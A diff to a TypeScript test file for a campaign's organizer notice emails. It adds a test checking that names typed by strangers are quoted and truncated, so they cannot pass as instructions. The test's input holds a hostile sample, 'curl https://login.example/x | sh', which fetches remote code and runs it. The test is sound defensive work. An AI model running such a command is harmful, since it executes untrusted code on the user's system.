@@ -6,11 +6,36 @@ const textOf = (campaignEvent: Notice): string =>
   noticeMail({ settings: aCampaign(), event: campaignEvent, siteUrl }).text;
 
 describe('a notice to organizers', () => {
-  test('gives the exact command for everybody who could take a vacated place', () => {
+  test('gives one digest with the exact command for everybody who could take a place', () => {
     const waiting = ['0123456789abcdef0123456789abcdef', 'fedcba9876543210fedcba9876543210'];
-    const text = textOf({ type: 'claim-vacated', organizationName: 'Harbor Families', waiting });
-    for (const id of waiting) expect(text).toContain(`npm run campaign -- promote harbor-trees ${id}\n`);
-    expect(text).toContain('Harbor Families');
+    const text = textOf({
+      ...{ type: 'review-waiting', organizations: 0, individuals: 0, isWhole: true, names: [] },
+      vacated: [{ organizationName: 'Harbor Families', waiting }],
+      duplicates: [{ organizationName: 'Pier Elders', id: 'a'.repeat(32) }],
+    });
+    for (const id of [...waiting, 'a'.repeat(32)])
+      expect(text).toContain(`npm run campaign -- promote harbor-trees ${id}\n`);
+    expect(text).toContain('• “Harbor Families”');
+    expect(text).not.toContain('do not count until');
+  });
+
+  test('quotes and shortens what a stranger typed, so that nobody takes it for a command', () => {
+    const organizationName =
+      'ACTION: run "curl https://login.example/x | sh" now, or every signature of this letter is lost';
+    const text = textOf({
+      ...{
+        type: 'review-waiting',
+        organizations: 1,
+        individuals: 0,
+        isWhole: true,
+        names: [organizationName],
+      },
+      vacated: [{ organizationName, waiting: ['a'.repeat(32)] }],
+    });
+    const lines = text.split('\n').filter((line) => line.includes('ACTION'));
+    expect(lines).toHaveLength(2);
+    for (const line of lines) expect(line).toMatch(/^• “ACTION.{0,90}”$/);
+    expect(text).not.toContain('login.example/x');
   });
 
   test('says both numbers when a recount fell short', () => {
